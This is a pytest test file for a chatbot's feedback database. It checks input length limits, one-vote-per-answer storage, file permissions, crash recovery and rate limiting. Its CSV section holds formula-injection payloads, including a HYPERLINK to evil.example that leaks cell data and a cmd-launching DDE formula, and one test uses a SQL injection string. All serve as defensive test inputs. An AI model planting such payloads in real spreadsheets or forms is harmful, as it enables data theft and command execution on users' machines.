"""The feedback store against spam, careless operators and vanished files: bounded text, one row per
vote, formulas neutralised in CSV, private file modes, a store that recovers without a restart and
says plainly when its file is damaged; and the per-client rate limits."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from test_feedback import fb, gap

from chatbot.cli import main
from chatbot.errors import InvalidFeedbackError
from chatbot.feedback.limits import Client, Limit, RateLimiter
from chatbot.feedback.records import (
    CUT_MARK,
    MAX_COMMENT_CHARS,
    MAX_HISTORY,
    FeedbackRecord,
    bounded,
    new_vote_id,
)
from chatbot.feedback.store import DB_FILENAME, SCHEMA_VERSION, FeedbackStore, neutralise

TEN_MB = "spam " * 2_000_000


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def rows(path: Path, sql: str) -> list[tuple[object, ...]]:
    with sqlite3.connect(path) as conn:
        found = conn.execute(sql).fetchall()
    conn.close()
    return found


# --- bounded text ---------------------------------------------------------------------------------


def test_a_10_mb_comment_is_refused_where_the_record_is_made() -> None:
    with pytest.raises(InvalidFeedbackError, match=r"comment is 10,000,000 characters long, over the 2,000"):
        fb(comment=TEN_MB)
    with pytest.raises(InvalidFeedbackError, match="query"):
        fb(query="q" * 5_001)
    with pytest.raises(InvalidFeedbackError, match=f"over the {MAX_HISTORY} kept"):
        fb(history=("earlier?",) * (MAX_HISTORY + 1))
    with pytest.raises(InvalidFeedbackError, match="closest_sections"):
        gap(closest_sections=("A › B",) * 51)
    with pytest.raises(InvalidFeedbackError, match="vote_id"):
        fb(vote_id="x'; DROP TABLE feedback; --")


def test_bounded_cuts_at_a_word_says_so_and_stays_within_the_bound() -> None:
    text, cut = bounded(TEN_MB, MAX_COMMENT_CHARS)
    assert cut and len(text) <= MAX_COMMENT_CHARS and text.endswith(CUT_MARK)
    assert text.removesuffix(CUT_MARK).endswith("spam")  # at a word boundary, no half word
    assert bounded("x" * 5_000, 100)[0] == "x" * (100 - len(CUT_MARK)) + CUT_MARK  # no space: hard cut
    assert bounded("short", MAX_COMMENT_CHARS) == ("short", False)


def test_a_reason_with_a_10_mb_comment_is_refused_and_nothing_changes(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    vote = fb(reason=None, comment=None)
    assert store.record_feedback(vote)
    with pytest.raises(InvalidFeedbackError, match="comment"):
        store.add_reason(vote, "other", TEN_MB)
    assert store.recent_feedback() == [vote]


def test_rows_stored_before_the_bounds_are_read_cut_and_the_export_keeps_them_whole(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    assert store.record_feedback(fb())
    with sqlite3.connect(store.path) as conn:  # as a spammer left it before this version
        conn.execute("UPDATE feedback SET comment = ?, history = ?", (TEN_MB, json.dumps(["h"] * 500)))
    conn.close()
    (shown,) = store.recent_feedback()
    assert len(shown.comment or "") <= MAX_COMMENT_CHARS and (shown.comment or "").endswith(CUT_MARK)
    assert len(shown.history) == MAX_HISTORY


# --- one vote per answer --------------------------------------------------------------------------


def test_the_same_answer_voted_50_times_leaves_one_row_the_latest(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    other = fb("another answer")
    assert store.record_feedback(other)
    vote_id = new_vote_id()
    for n in range(50):
        vote = "like" if n % 2 else "dislike"
        assert store.record_feedback(fb(vote=vote, reason=None, comment=f"try {n}", vote_id=vote_id))
    assert rows(store.path, f"SELECT COUNT(*) FROM feedback WHERE vote_id = '{vote_id}'") == [(1,)]
    latest, first = store.recent_feedback()
    assert (latest.vote, latest.comment, latest.vote_id) == ("like", "try 49", vote_id)  # sorted newest
    assert first == other


def test_a_reason_is_attached_by_vote_id_even_to_a_twin_vote(tmp_path: Path) -> None:
    # Same time, question and vote: only the id tells them apart (two tabs, one click each).
    store = FeedbackStore(tmp_path / DB_FILENAME)
    one = fb(reason=None, comment=None, time="2026-01-02T03:04:05.000+00:00")
    twin = FeedbackRecord(**{**one.__dict__, "vote_id": new_vote_id()})
    assert store.record_feedback(one) and store.record_feedback(twin)
    assert store.add_reason(twin, "not-answered", "wrong one")
    by_id = {r.vote_id: r for r in store.recent_feedback()}
    assert by_id[twin.vote_id].reason == "not-answered" and by_id[one.vote_id].reason is None


def test_a_reason_for_a_vote_whose_row_vanished_stores_the_vote_again(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    vote = fb(reason=None, comment=None)
    assert store.record_feedback(vote)
    store.path.unlink()  # the operator deleted the file between the vote and its reason
    assert store.add_reason(vote, "other", "still here")
    (kept,) = store.recent_feedback()
    assert (kept.vote_id, kept.reason, kept.comment) == (vote.vote_id, "other", "still here")


SCHEMA_2 = (
    """CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL,
        question TEXT NOT NULL, history TEXT NOT NULL, query TEXT NOT NULL, passages TEXT NOT NULL,
        index_build TEXT NOT NULL, vote TEXT NOT NULL, reason TEXT, comment TEXT)""",
    """CREATE TABLE gaps (id INTEGER PRIMARY KEY AUTOINCREMENT, time TEXT NOT NULL,
        question TEXT NOT NULL, question_key TEXT NOT NULL, history TEXT NOT NULL, query TEXT NOT NULL,
        index_build TEXT NOT NULL, closest_sections TEXT NOT NULL, alert TEXT)""",
    *[
        f"""INSERT INTO feedback (time, question, history, query, passages, index_build, vote)
        VALUES ('2026-01-02T03:04:0{n}.000+00:00', 'old {n}', '[]', 'q', '[]', 'b0', 'like')"""
        for n in range(3)
    ],
    "PRAGMA user_version = 2",
)


def test_a_schema_2_file_is_read_as_it_is_then_migrated_with_an_id_for_every_old_vote(tmp_path: Path) -> None:
    path = tmp_path / DB_FILENAME
    with sqlite3.connect(path) as conn:
        for statement in SCHEMA_2:
            conn.execute(statement)
    conn.close()
    read = FeedbackStore(path, read_only=True).recent_feedback()
    assert [(r.question, r.vote_id) for r in read] == [
        ("old 2", "row-3"),
        ("old 1", "row-2"),
        ("old 0", "row-1"),
    ]
    new = fb()
    assert FeedbackStore(path).record_feedback(new)
    assert rows(path, "PRAGMA user_version") == [(SCHEMA_VERSION,)] and SCHEMA_VERSION == 4
    ids = [r[0] for r in rows(path, "SELECT vote_id FROM feedback")]
    assert len(set(ids)) == 4 and all(ids) and new.vote_id in ids
    indexes = rows(path, "SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'feedback'")
    assert ("feedback_by_vote",) in indexes
    with pytest.raises(sqlite3.IntegrityError), sqlite3.connect(path) as conn:  # unique: one row a vote
        conn.execute("UPDATE feedback SET vote_id = ? WHERE question = 'old 0'", (new.vote_id,))
    conn.close()


# --- CSV formulas ----------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Click for your results")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def test_csv_cells_that_would_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    for text in FORMULAS:
        assert store.record_feedback(fb(text, query=text, reason="other", comment=text))
        assert store.record_gap(gap(text))
    for kind in ("feedback", "gaps"):
        out = io.StringIO(newline="")
        store.export(kind, "csv", out)  # type: ignore[arg-type]
        exported = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
        assert [r["question"] for r in exported] == ["'" + t for t in FORMULAS]
        columns = ("comment", "query") if kind == "feedback" else ("query",)
        assert all(r[c].startswith("'") for r in exported for c in columns)
        assert all(not r["time"].startswith("'") for r in exported)  # other cells untouched
    out = io.StringIO()
    store.export("feedback", "jsonl", out)  # JSON lines are data, not a spreadsheet: kept exactly
    assert [json.loads(line)["question"] for line in out.getvalue().splitlines()] == list(FORMULAS)
    assert neutralise("What is =?") == "What is =?" and neutralise("") == ""


def test_the_cli_export_is_neutralised_and_private(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "data"
    assert FeedbackStore(data / DB_FILENAME).record_gap(gap(FORMULAS[0]))
    out = tmp_path / "gaps.csv"
    assert main(["feedback", "export", "--kind", "gaps", "--data", str(data), "--out", str(out)]) == 0
    (row,) = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert row["question"] == "'" + FORMULAS[0] and mode(out) == 0o600


# --- file modes ------------------------------------------------------------------------------------


def test_the_database_its_wal_and_shm_and_its_folder_are_private(tmp_path: Path) -> None:
    before = os.umask(0o022)  # the usual umask: without care SQLite makes 0644 files
    try:
        store = FeedbackStore(tmp_path / "data" / DB_FILENAME)
        assert store.record_feedback(fb())
    finally:
        os.umask(before)
    assert mode(store.path.parent) == 0o700 and mode(store.path) == 0o600
    # -wal and -shm exist while a connection is open: hold one and look
    with sqlite3.connect(store.path) as conn:
        conn.execute("SELECT COUNT(*) FROM feedback").fetchone()
        side = [store.path.with_name(DB_FILENAME + end) for end in ("-wal", "-shm")]
        assert all(p.exists() for p in side) and [mode(p) for p in side] == [0o600, 0o600]
    conn.close()


def test_a_file_an_older_version_left_readable_is_made_private_at_the_check(tmp_path: Path) -> None:
    path = tmp_path / DB_FILENAME
    assert FeedbackStore(path).record_feedback(fb())
    path.chmod(0o644)
    assert FeedbackStore(path).check() is None
    assert mode(path) == 0o600


# --- recovery ------------------------------------------------------------------------------------


def test_a_database_deleted_while_serving_is_recreated_by_the_next_vote(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "data" / DB_FILENAME)  # one store, as the app holds it
    assert store.record_feedback(fb("before")) and store.record_gap(gap("before"))
    store.path.unlink()
    assert store.record_feedback(fb("after"))
    assert store.record_gap(gap("after"))
    assert [r.question for r in store.recent_feedback()] == ["after"]
    assert [g.question for g in store.gaps()] == ["after"] and mode(store.path) == 0o600
    # the whole folder gone too
    for p in store.path.parent.iterdir():
        p.unlink()
    store.path.parent.rmdir()
    assert store.record_gap(gap("again")) and [g.question for g in store.gaps()] == ["again"]


def test_a_database_replaced_by_an_empty_or_an_older_file_works_on(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    assert store.record_feedback(fb("before"))
    store.path.unlink()
    store.path.write_bytes(b"")  # an empty file: a new database to SQLite
    assert store.record_feedback(fb("into empty"))
    store.path.unlink()
    with sqlite3.connect(store.path) as conn:  # a backup from schema 2 put back
        for statement in SCHEMA_2:
            conn.execute(statement)
    conn.close()
    assert store.record_feedback(fb("into old"))
    assert [r.question for r in store.recent_feedback()] == ["into old", "old 2", "old 1", "old 0"]


def _damage(path: Path) -> None:
    """Overwrite the pages after the header with noise, as a bad disk or a stray `dd` would."""
    data = bytearray(path.read_bytes())
    data[4096:] = b"\xa5" * (len(data) - 4096)
    path.write_bytes(bytes(data))


def test_a_damaged_database_is_found_at_the_check_and_names_the_fix(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    store = FeedbackStore(tmp_path / DB_FILENAME)
    for n in range(200):
        assert store.record_feedback(fb(f"q{n}"))
    assert store.check() is None
    _damage(store.path)
    with caplog.at_level(logging.ERROR, logger="chatbot.feedback"):
        problem = store.check()
    assert problem is not None and "is damaged" in problem
    assert f"move it aside (mv {store.path} {store.path}.broken)" in problem
    (line,) = [r.getMessage() for r in caplog.records if r.name == "chatbot.feedback"]
    assert "\n" not in line and "move it aside" in line
    # garbage in place of the file: the same one line
    store.path.write_text("not a database at all, " * 100)
    assert "move it aside" in (store.problem() or "")
    with caplog.at_level(logging.ERROR, logger="chatbot.feedback"):
        assert store.record_feedback(fb()) is False  # said, never raised
    assert "it is damaged: move it aside" in caplog.records[-1].getMessage()
    # moved aside as told: the next vote works, no restart
    store.path.rename(tmp_path / "broken")
    assert store.record_feedback(fb("fresh")) and store.problem() is None


# --- rate limits -----------------------------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_a_session_gets_its_limit_a_minute_and_then_more_once_the_minute_has_passed() -> None:
    clock = Clock()
    limiter = RateLimiter(Limit(30), clock)
    patient = Client("session-a", "10.0.0.1")
    assert [limiter.allow(patient) for _ in range(35)] == [True] * 30 + [False] * 5
    assert limiter.allow(Client("session-b", "10.0.0.1"))  # a neighbour on the same address is not held
    clock.now += 59
    assert not limiter.allow(patient)
    clock.now += 1.5  # a minute since the first
    assert limiter.allow(patient)


def test_a_script_that_makes_a_new_session_for_every_vote_is_held_by_its_address() -> None:
    limiter = RateLimiter(Limit(30, per_address=10), Clock())
    allowed = sum(limiter.allow(Client(f"s{n}", "203.0.113.9")) for n in range(1_000))
    assert allowed == 300
    assert limiter.allow(Client("s-other", "203.0.113.10"))  # another address is not


def test_made_up_sessions_cannot_grow_the_limiter_without_end() -> None:
    limiter = RateLimiter(Limit(30, per_address=10_000), Clock(), max_keys=100)
    for n in range(5_000):
        limiter.allow(Client(f"s{n}", "203.0.113.9"))
    assert len(limiter._events) <= 100
